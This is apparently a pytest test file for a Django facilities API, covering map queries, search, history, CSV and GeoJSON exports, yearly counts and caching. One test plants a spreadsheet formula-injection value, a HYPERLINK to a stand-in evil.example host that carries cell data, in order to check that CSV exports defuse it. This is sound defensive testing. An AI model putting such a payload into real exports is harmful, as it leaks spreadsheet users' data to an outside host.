"""The services API (GeoJSON by bbox/category/date, history, exports) and the pages that show services."""
import csv
import datetime
import io
import json

import pytest

from partons.observatory.models import Facility, FacilityChange


@pytest.fixture
def services(territory, cats):
    v = territory["villages"]
    made = {}
    for key, cat, village, lon, lat, opened, closed, synthetic in [
        ("bakery", "bakery", "kemmel", 2.8275, 50.7835, None, None, False),
        ("post", "post", "kemmel", 2.8280, 50.7830, None, datetime.date(2012, 6, 30), True),
        ("gp", "gp", "boeschepe", 2.6905, 50.8005, datetime.date(2015, 1, 1), None, False),
        ("pharmacy", "pharmacy", "bergues", 2.4325, 50.9685, None, None, False),
    ]:
        f = Facility.objects.create(category=cats[cat], name=key.title(), lon=lon, lat=lat, village=v[village], opened_on=opened,
                                    closed_on=closed, synthetic=synthetic, source="Partons demo generator" if synthetic else "test",
                                    source_id=key, licence="CC0 1.0")
        FacilityChange.objects.create(facility=f, kind="created", effective_on=opened or datetime.date(2000, 1, 1))
        if closed:
            FacilityChange.objects.create(facility=f, kind="closed", effective_on=closed)
        made[key] = f
    return made


def ids(data):
    return sorted(f["properties"]["name"] for f in data["features"])


def test_facilities_by_bbox_category_and_date(client, services):
    assert ids(client.get("/api/facilities").json()) == ["Bakery", "Gp", "Pharmacy"]  # open today
    assert ids(client.get("/api/facilities", {"on": "2010-01-01"}).json()) == ["Bakery", "Pharmacy", "Post"]
    assert ids(client.get("/api/facilities", {"bbox": "2.6,50.75,2.9,50.85"}).json()) == ["Bakery", "Gp"]
    assert ids(client.get("/api/facilities", {"categories": "gp,pharmacy"}).json()) == ["Gp", "Pharmacy"]
    assert ids(client.get("/api/facilities", {"group": "flemish_basic"}).json()) == ["Bakery", "Gp", "Pharmacy"]
    assert ids(client.get("/api/facilities", {"village": "kemmel", "include_closed": "true"}).json()) == ["Bakery", "Post"]
    data = client.get("/api/facilities", {"on": "2010-01-01", "compact": "true"}).json()
    assert data["containsSynthetic"] is True
    assert set(data["features"][0]["properties"]) == {"id", "name", "category", "category_name", "symbol", "country",
                                                       "village_name", "synthetic", "url"}
    r = client.get("/api/facilities", {"categories": "bakery,unicorns"})
    assert r.status_code == 400 and r.json()["detail"] == "categories: unknown code(s) unicorns"
    assert client.get("/api/facilities", {"on": "yesterday"}).status_code == 422


def test_facilities_are_found_by_words_of_their_name_category_or_village(client, services):
    services["bakery"].name = "Bakkerij De Molen"
    services["bakery"].save()
    assert ids(client.get("/api/facilities", {"q": "molen"}).json()) == ["Bakkerij De Molen"]
    assert ids(client.get("/api/facilities", {"q": "pharmacie"}).json()) == ["Pharmacy"]  # the category, in French
    assert ids(client.get("/api/facilities", {"q": "apotheek sint-winoksbergen"}).json()) == ["Pharmacy"]  # … Dutch
    assert ids(client.get("/api/facilities", {"q": "Hondschote"}).json()) == []
    # every word must match: a bakery is not found in Bergues, nor a closed service unless asked for
    assert ids(client.get("/api/facilities", {"q": "bakkerij bergues"}).json()) == []
    assert ids(client.get("/api/facilities", {"q": "kemmel"}).json()) == ["Bakkerij De Molen"]
    assert ids(client.get("/api/facilities", {"q": "kemmel", "include_closed": "true"}).json()) == ["Bakkerij De Molen", "Post"]
    assert client.get("/api/facilities", {"q": "x" * 101}).status_code == 422


def test_facility_with_history(client, services):
    data = client.get(f"/api/facilities/{services['post'].pk}").json()
    assert [h["kind"] for h in data["properties"]["history"]] == ["created", "closed"]
    assert data["properties"]["closed_on"] == "2012-06-30"
    assert client.get("/api/facilities/999999").status_code == 404


def test_exports_carry_licence_attribution_and_history(client, services):
    r = client.get("/api/facilities.csv", {"include_closed": "true"})
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert len(rows) == 4
    post = next(row for row in rows if row["name"] == "Post")
    assert post["licence"] == "CC0 1.0" and post["attribution"] == "Synthetic demo data, not real"
    assert post["history"] == "2000-01-01 created; 2012-06-30 closed" and post["synthetic"] == "True"
    geo = json.loads(client.get("/api/facilities.geojson", {"categories": "gp"}).content)
    assert geo["sources"] == [{"source": "test", "licence": "CC0 1.0", "attribution": "test"}]
    props = geo["features"][0]["properties"]
    assert props["opened_on"] == "2015-01-01" and props["history"] == [{"kind": "created", "effective_on": "2015-01-01"}]


def test_over_time_counts(client, services):
    data = client.get("/api/facilities/over-time", {"village": "kemmel"}).json()
    years = data["years"]
    total = dict(zip(years, data["series"]["total"]))
    assert total[2010] == 2 and total[2013] == 1
    region = client.get("/api/facilities/over-time").json()
    assert dict(zip(region["years"], region["series"]["total"]))[2016] == 3
    assert client.get("/api/facilities/over-time", {"since": 1800}).status_code == 422  # outside the schema's 1990–2100
    assert client.get("/api/facilities/over-time", {"categories": "nope"}).status_code == 400
    assert client.get("/api/facilities", {"group": "nope"}).status_code == 400


def test_village_page_shows_services_lost_and_across_the_border(client, services):
    html = client.get("/nl/villages/kemmel/", {"since": 2010}).content.decode()
    assert "Bakery" in html and "Post" in html  # today's bakery, the post office lost since 2010
    lost = html[html.index('id="lost-title"'):html.index('id="time-title"')]
    assert "Post" in lost and "2012" in lost
    assert "fictie" in html.lower() or "synthetic" in html.lower()  # the notice about synthetic records
    # Boeschepe's GP in France is the nearest one across the border for Kemmel.
    assert "Gp" in html and "km" in html
    html = client.get("/nl/villages/kemmel/", {"since": 2015}).content.decode()
    lost = html[html.index('id="lost-title"'):html.index('id="time-title"')]
    assert "Post" not in lost


def test_municipality_page_aggregates_its_villages(client, services):
    html = client.get("/fr/municipalities/be-33039/").content.decode()
    assert "Bakery" in html and 'data-url="/api/facilities/over-time?municipality=be-33039"' in html


def test_services_map_page(client, services):
    html = client.get("/fr/services/").content.decode()
    assert 'id="services-map"' in html and 'name="categories" value="bakery"' in html
    assert 'type="range"' in html


def test_opening_hours_are_shown_in_the_page_language(client, services):
    fac = services["bakery"]
    fac.opening_hours = "Mo-Fr 09:00-12:00; Sa 10:00-12:00"
    fac.save()
    assert "lun-ven 09:00-12:00 · sam 10:00-12:00" in client.get(f"/fr/services/{fac.pk}/").content.decode()
    assert "ma-vr 09:00-12:00 · za 10:00-12:00" in client.get(f"/nl/services/{fac.pk}/").content.decode()


def test_csv_export_defuses_spreadsheet_formulas(client, services):
    fac = services["bakery"]
    fac.name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    fac.address = "@SUM(1+1)"
    fac.save()
    rows = list(csv.DictReader(io.StringIO(client.get("/api/facilities.csv", {"categories": "bakery"}).content.decode("utf-8-sig"))))
    assert rows[0]["name"].startswith("'=") and rows[0]["address"] == "'@SUM(1+1)"


def test_counts_over_time_in_one_query_agree_with_the_day_by_day_definition(territory, cats, django_assert_num_queries):
    """Random openings, closings and "known since" dates (1 January included, where off-by-one errors hide): the
    one-query count equals counting `open_on(1 January)` year by year."""
    import random

    from partons.observatory import selectors

    rng = random.Random(7)
    villages = list(territory["villages"].values())
    codes = ["bakery", "post", "gp"]

    def some_day():
        year = rng.randint(1998, 2024)
        return datetime.date(year, 1, 1) if rng.random() < 0.3 else datetime.date(year, rng.randint(1, 12), rng.randint(1, 28))

    for i in range(300):
        opened = some_day() if rng.random() < 0.5 else None
        known = some_day() if opened is None and rng.random() < 0.5 else None
        closed = some_day() if rng.random() < 0.4 else None
        if closed and (opened or known) and closed < (opened or known):
            closed = None
        Facility.objects.create(category=cats[rng.choice(codes)], name=f"F{i}", lon=2.8, lat=50.78,
                                village=rng.choice(villages), opened_on=opened, known_since=known, closed_on=closed,
                                source="test", source_id=f"f{i}")
    years = list(range(1997, 2027))
    with django_assert_num_queries(1):
        series = selectors._counts_by_year(years=years, region=territory["region"])
    assert selectors.counts_by_year(years=years, region=territory["region"]) == series
    with django_assert_num_queries(1):  # kept in the cache: only "did the facilities change?"
        assert selectors.counts_by_year(years=years, region=territory["region"]) == series
    expected_total = []
    for year in years:
        day = datetime.date(year, 1, 1)
        open_then = Facility.objects.filter(village__municipality__regions=territory["region"]).open_on(day)
        expected_total.append(open_then.count())
        for code in codes:
            assert series.get(code, [0] * len(years))[years.index(year)] == open_then.filter(category__code=code).count()
    assert series["total"] == expected_total
    assert max(expected_total) > 50 and len(set(expected_total)) > 10  # the data does change over the years


def test_nearest_across_the_border_in_two_queries_and_right(territory, cats, django_assert_num_queries):
    """Many facilities on the other side: two queries whatever their number, and the nearest of each category is the
    one a distance-by-distance search finds."""
    import random

    from partons.core.geo import distance_m
    from partons.observatory import selectors

    rng = random.Random(3)
    kemmel = territory["villages"]["kemmel"]
    french = [territory["villages"]["boeschepe"], territory["villages"]["bergues"]]
    for i in range(200):
        Facility.objects.create(category=cats[rng.choice(["bakery", "gp", "pharmacy"])], name=f"F{i}",
                                lon=2.6 + rng.random() * 0.3, lat=50.7 + rng.random() * 0.15, village=rng.choice(french),
                                source="test", source_id=f"fr{i}")
    Facility.objects.create(category=cats["post"], name="Belgian post", lon=2.83, lat=50.78, village=kemmel,
                            source="test", source_id="be1")  # same side: never listed
    with django_assert_num_queries(2):
        rows = selectors.nearest_across_border(kemmel)
    assert {r["category"].code for r in rows} == {"bakery", "gp", "pharmacy"}
    for row in rows:
        same = Facility.objects.filter(category=row["category"], village__in=french)
        nearest = min(same, key=lambda f: distance_m(kemmel.lon, kemmel.lat, f.lon, f.lat))
        assert row["facility"] == nearest
        assert row["distance_km"] == round(distance_m(kemmel.lon, kemmel.lat, nearest.lon, nearest.lat) / 1000, 1)


@pytest.mark.parametrize("path", ["/api/facilities.csv?include_closed=true", "/api/facilities.geojson",
                                  "/api/facilities?limit=2000", "/api/facilities/over-time"])
def test_facility_lists_and_exports_cost_the_same_queries_for_5_or_60_facilities(client, territory, cats, path):
    from django.core.cache import cache
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def add(n, start):
        for i in range(start, start + n):
            f = Facility.objects.create(category=cats["bakery"], name=f"B{i}", lon=2.8 + i / 10000, lat=50.78,
                                        village=territory["villages"]["kemmel"], source="test", source_id=f"q{i}")
            FacilityChange.objects.create(facility=f, kind="created", effective_on=datetime.date(2001, 1, 1))

    add(5, 0)
    client.get(path)  # warm what is looked up once per process
    cache.clear()
    with CaptureQueriesContext(connection) as few:
        assert client.get(path).status_code == 200
    add(55, 5)
    cache.clear()
    with CaptureQueriesContext(connection) as many:
        assert client.get(path).status_code == 200
    assert len(many) == len(few), [q["sql"][:100] for q in many.captured_queries]


def test_derived_figures_and_exports_follow_every_change_of_the_facilities(client, territory, cats):
    """Kept until the facilities change, never longer: a new facility shows at once in the counts and the export."""
    from partons.observatory import selectors

    kemmel = territory["villages"]["kemmel"]
    Facility.objects.create(category=cats["bakery"], name="Oud", lon=2.83, lat=50.78, village=kemmel, source="t",
                            source_id="a", opened_on=datetime.date(2001, 5, 1))
    years = [2010, 2020]
    before = selectors.counts_by_year(years=years, village=kemmel)
    csv_before = client.get("/api/facilities.csv").content.decode()
    assert before["total"] == [1, 1] and "Nieuw" not in csv_before
    new = Facility.objects.create(category=cats["gp"], name="Nieuw", lon=2.83, lat=50.78, village=kemmel, source="t",
                                  source_id="b", opened_on=datetime.date(2015, 5, 1))
    assert selectors.counts_by_year(years=years, village=kemmel)["total"] == [1, 2]
    assert "Nieuw" in client.get("/api/facilities.csv").content.decode()
    new.closed_on = datetime.date(2016, 1, 1)  # a change of an existing facility too
    new.save()
    assert selectors.counts_by_year(years=years, village=kemmel)["total"] == [1, 1]


def test_an_export_is_built_and_compressed_once_then_served_as_stored(client, services):
    import gzip

    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    plain = client.get("/api/facilities.csv")
    assert "Content-Encoding" not in plain and plain["Content-Disposition"].endswith('"partons-facilities.csv"')
    with CaptureQueriesContext(connection) as ctx:
        packed = client.get("/api/facilities.csv", HTTP_ACCEPT_ENCODING="gzip, br")
    assert packed["Content-Encoding"] == "gzip" and gzip.decompress(packed.content) == plain.content
    assert len(ctx) == 1  # only "did the facilities change?": the file comes from the shared cache
    again = client.get("/api/facilities.csv", HTTP_ACCEPT_ENCODING="gzip", HTTP_IF_NONE_MATCH=packed["ETag"])
    assert again.status_code == 304
